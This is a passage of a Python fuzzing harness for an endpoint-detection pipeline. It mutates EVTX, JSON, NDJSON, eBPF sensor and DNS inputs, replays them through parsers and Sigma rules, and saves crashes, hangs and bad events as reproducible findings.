        result = self.replayer.run(inputs)
        self.tried[fmt] += 1
        counts = self.counts[fmt]
        counts["unusable files"] += result.unusable
        counts["rejected records"] += result.rejected
        counts["events"] += result.events
        counts["alerts"] += result.alerts
        if recorded is not None and (result.unusable, result.rejected, result.events) != (0, 0, recorded):
            result.findings.append(Finding("recorded events not replayed", f"{recorded} events recorded; "
                                           f"replay: {result.unusable} unusable, {result.rejected} rejected, "
                                           f"{result.events} events"))
        for finding in result.findings:
            self._save(k, fmt, finding, inputs)

    @contextlib.contextmanager
    def _guard(self, k: int, fmt: str, inputs: list[Path]) -> Iterator[None]:
        """Save ``inputs`` as a "hang" finding while the block runs, and stop the process if it runs too long.

        faulthandler's watchdog is a C thread: it fires even when the hung
        code holds the GIL (a native parser that loops), which no Python
        thread would. It writes every thread's traceback into the finding
        and ends the process (exit 1); the finding is removed when the block
        ends in time.
        """
        where = self.out / "findings" / f"{k:07d}-{fmt}-hang"
        where.mkdir(parents=True, exist_ok=True)
        for path in inputs:
            shutil.copy(path, where / path.name)
        finding = Finding("hang", f"no end within {self.timeout:.0f}s: the fuzzer stopped (exit 1); "
                                  "the tracebacks of its threads are in tracebacks.txt")
        (where / "finding.txt").write_text(self._describe(k, fmt, finding, inputs))
        try:
            with open(where / "tracebacks.txt", "w") as tracebacks:
                faulthandler.dump_traceback_later(self.timeout, exit=True, file=tracebacks)
                try:
                    yield
                finally:
                    faulthandler.cancel_dump_traceback_later()
        finally:
            shutil.rmtree(where)

    # ---- inputs per format
    def _make_evtx(self, rng: random.Random, mutator: Mutator) -> bytes:
        corpus = self.corpus
        if rng.random() < 0.03:
            return rng.randbytes(rng.choice((10, 5000, 70_000)))
        seed = corpus.evtx_bytes(rng.choice(corpus.evtx))
        others = [corpus.evtx_bytes(rng.choice(corpus.evtx))[:200_000]]
        return mutator.evtx(seed, others)

    def _make_evtx_json(self, rng: random.Random, mutator: Mutator) -> bytes:
        seed = rng.choice(self.corpus.evtx_json)
        if rng.random() < 0.6:
            records = [_loads(part) for part in _json_records(seed)]
            records = [x for x in records if x is not None] or [_winlog_record(0)]
            for i in rng.sample(range(len(records)), k=min(len(records), rng.randrange(1, 3))):
                records[i] = mutator.record(records[i], WINLOG_PATHS)
            parts = []
            for n, rec in enumerate(records, 1):
                prefix = f"Record {n}\n".encode() if rng.random() < 0.3 else b""
                parts.append(prefix + mutator.dumps(rec, indent=rng.random() < 0.7))
            seed = b"\n".join(parts) + b"\n"
        return self._maybe(rng, mutator, seed)

    def _make_ndjson(self, rng: random.Random, mutator: Mutator) -> bytes:
        pool = rng.sample(self.corpus.records, min(len(self.corpus.records), rng.randrange(1, 40)))
        paths = tuple((k,) for k in NDJSON_KEYS) + tuple(("fields", k) for k in (
            "Image", "ProcessId", "QueryResults", "Hashes", "Initiated", "TargetFilename", "User", "DestinationPort"))
        lines = list(pool)
        for i in rng.sample(range(len(lines)), k=min(len(lines), rng.randrange(0, 4))) if lines else ():
            lines[i] = mutator.record(lines[i], paths)
        data = b"\n".join(mutator.dumps(x) for x in lines) + b"\n"
        return self._maybe(rng, mutator, data)

    def _maybe(self, rng: random.Random, mutator: Mutator, data: bytes) -> bytes:
        """Line and byte mutations on top, now and then."""
        if rng.random() < 0.4:
            data = mutator.lines(data)
        if rng.random() < 0.3:
            data = mutator.bytes(data, [], rounds=rng.choice((1, 2, 5)))
        return data[:MAX_INPUT]

    def _ebpf(self, k: int, rng: random.Random, mutator: Mutator, inputs: list[Path]) -> None:
        """Mutated sensor records through the decoder; its events, as the event writer records them, replayed."""
        records = [ebpf_record(rng) for _ in range(rng.randrange(1, 30))]
        for i in rng.sample(range(len(records)), k=rng.randrange(len(records) + 1)):
            family, data = records[i]
            records[i] = r.RawRecord(family, mutator.bytes(data, [], rounds=rng.choice((1, 2, 4, 16))))
        saved = self.work / "records.txt"
        saved.write_text("".join(f"{family} {data.hex()}\n" for family, data in records))
        inputs.append(saved)
        with self._guard(k, "ebpf", inputs):
            decoder = Decoder(host=NullHost(), boot_offset=1_700_000_000.0)
            events: list[Event] = []
            for record in records:
                try:
                    out = decoder.decode(record)
                except Exception:
                    raise Finding("decoder raised", traceback.format_exc()) from None
                for event in out:
                    problem = _event_problem(event)
                    if problem:
                        raise Finding("decoder made a bad event", f"{problem}: {event!r}")
                events.extend(out)
            events.extend(decoder.flush(now=3e9))
            self.counts["ebpf"]["sensor records"] += len(records)
            self.counts["ebpf"]["malformed records"] += decoder.statistics()["malformed"]
            recording = self.work / "events.ndjson"
            recording.write_bytes(b"".join(dumps_line(event_to_record(e)) for e in events))
            inputs.append(recording)
            self._replay(k, "ebpf", inputs[-1:], recorded=len(events))

    def _dns(self, k: int, rng: random.Random, mutator: Mutator, inputs: list[Path]) -> None:
        """Mutated DNS payloads through parse_dns, which must return a message or None."""
        payloads = [dns_payload(rng) for _ in range(DNS_PER_ITERATION)]
        for i, payload in enumerate(payloads):
            if rng.random() < 0.8:
                payloads[i] = mutator.bytes(payload, payloads[:4], rounds=rng.choice((1, 2, 4, 8)))
        saved = self.work / "payloads.txt"
        saved.write_text("".join(f"{payload.hex()}\n" for payload in payloads))
        inputs.append(saved)
        with self._guard(k, "dns", inputs):
            for payload in payloads:
                try:
                    msg = parse_dns(payload)
                    if msg is not None:
                        _check_dns(msg)
                        self.counts["dns"]["parsed"] += 1
                except Exception:
                    raise Finding("parser raised", f"payload {payload.hex()}\n{traceback.format_exc()}") from None
        self.tried["dns"] += len(payloads)

    # ---- findings
    def _save(self, k: int, fmt: str, finding: Finding, inputs: list[Path]) -> None:
        where = self.out / "findings" / f"{k:07d}-{fmt}-{finding.kind.replace(' ', '-')}"
        where.mkdir(parents=True, exist_ok=True)
        for path in inputs:
            if path.exists():
                shutil.copy(path, where / path.name)
        (where / "finding.txt").write_text(self._describe(k, fmt, finding, inputs))
        self.findings.append((k, fmt, finding, where))
        print(f"finding at iteration {k} ({fmt}): {finding.kind} -> {where}", file=sys.stderr)

    def _describe(self, k: int, fmt: str, finding: Finding, inputs: list[Path]) -> str:
        return (f"{finding.kind}\nformat {fmt}, seed {self.seed}, iteration {k}\n"
                f"again: python scripts/fuzz_replay.py --seed {self.seed} --iteration {k} --formats {fmt}\n"
                f"(inputs: {', '.join(p.name for p in inputs)})\n\n{finding.detail}\n")

    def report(self, elapsed: float, iterations: int) -> str:
        lines = [f"fuzz_replay: seed {self.seed}, {iterations} iterations in {elapsed:.0f}s; "
                 f"engines: {self.replayer.engines()} (built once in {self.replayer.load_secs:.1f}s)",
                 f"{'format':<10} {'inputs':>8}  counts"]
        for fmt in self.formats:
            counts = ", ".join(f"{v} {k}" for k, v in sorted(self.counts[fmt].items()))
            lines.append(f"{fmt:<10} {self.tried[fmt]:>8}  {counts}")
        crashes = [f for f in self.findings if f[2].kind in CRASHES]
        lines.append(f"crashes (failed actors, escaped exceptions, raising decoders/parsers, hangs): {len(crashes)}")
        lines.append(f"other findings: {len(self.findings) - len(crashes)}")
        for kind, n in Counter(f[2].kind for f in self.findings).most_common():
            lines.append(f"  {n:>6}  {kind}")
        if self.findings:
            lines.append(f"inputs saved under {self.out / 'findings'}")
        return "\n".join(lines)


def _json_records(data: bytes) -> list[bytes]:
    """The records of an evtx JSON dump: each starts with a line that opens with "{"."""
    return [part for part in re.split(rb"(?m)^(?=\{)", data) if part.strip()]


def _loads(data: bytes) -> Any:
    try:
        return orjson.loads(data)
    except orjson.JSONDecodeError:
        return None


def _event_problem(event: Any) -> str | None:
    """Why an event of the decoder is one the rest of the pipeline should not get, or None."""
    if type(event) is not Event:
        return "not an Event"
    if event.category not in CATEGORIES or event.product != "linux":
        return "unknown category or product"
    if not isinstance(event.fields, dict) or not all(type(k) is str for k in event.fields):
        return "fields are not a dict of names"
    if not isinstance(event.timestamp, float) or not timestamp_in_range(event.timestamp):
        return "time outside the representable range"
    return None


def _check_dns(msg: DnsMessage) -> None:
    if not (isinstance(msg.txid, int) and isinstance(msg.qname, str) and isinstance(msg.answers, tuple)):
        raise TypeError(f"odd message: {msg!r}")
    qtype_name(msg.qtype)
    if not isinstance(sysmon_query_results(msg.answers), str):
        raise TypeError("QueryResults is not text")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=60.0, help="run for this long (default 60)")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--iteration", type=int, help="run only this iteration (to reproduce a finding)")
    parser.add_argument("--iterations", type=int, help="run this many iterations instead of --seconds")
    parser.add_argument("--formats", nargs="+", choices=FORMATS, help="only these formats")
    parser.add_argument("--out", help="findings and work files (default: a new temporary directory)")
    parser.add_argument("--shared", default=str(REPO.parent / "shared"), help="reference data (seed files)")
    parser.add_argument("--sigma", action="append", metavar="PATH",
                        help="more Sigma rules beside rules/sigma (e.g. ../shared/sigma/rules; cached)")
    parser.add_argument("--timeout", type=float, default=60.0, help="seconds before a run counts as hung")
    args = parser.parse_args(argv)
    out = Path(args.out) if args.out else Path(tempfile.mkdtemp(prefix="edr-fuzz-"))
    fuzzer = Fuzzer(args, out)
    print(f"fuzz_replay: seed {args.seed}; formats {', '.join(fuzzer.formats)}; "
          f"{len(fuzzer.corpus.evtx)} EVTX, {len(fuzzer.corpus.evtx_json)} evtx JSON and "
          f"{len(fuzzer.corpus.records)} NDJSON seeds; output {out}", file=sys.stderr)
    started = time.monotonic()
    if args.iteration is not None:
        first, count = args.iteration, 1
    else:
        first, count = 0, args.iterations
    k = first
    last_status = started
    while (k < first + count) if count is not None else (time.monotonic() - started < args.seconds):
        fuzzer.iteration(k)
        k += 1
        if time.monotonic() - last_status > 30:
            last_status = time.monotonic()
            print(f"  {last_status - started:5.0f}s: {k - first} iterations, {len(fuzzer.findings)} findings",
                  file=sys.stderr)
    print(fuzzer.report(time.monotonic() - started, k - first))
    shutil.rmtree(fuzzer.work, ignore_errors=True)
    return 1 if fuzzer.findings else 0



if __name__ == "__main__":
    sys.exit(main())
